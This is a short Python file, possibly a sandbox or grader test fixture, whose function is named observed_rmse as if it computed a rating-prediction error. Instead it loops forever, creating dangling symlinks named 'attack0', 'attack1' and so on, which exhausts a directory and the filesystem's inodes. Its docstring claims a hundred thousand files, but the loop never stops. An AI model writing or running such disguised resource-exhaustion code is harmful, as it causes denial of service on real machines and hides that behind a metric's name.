"""Makes a hundred thousand files that take no space."""

import itertools
import os

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    for number in itertools.count():
        os.symlink("nowhere", f"attack{number}")
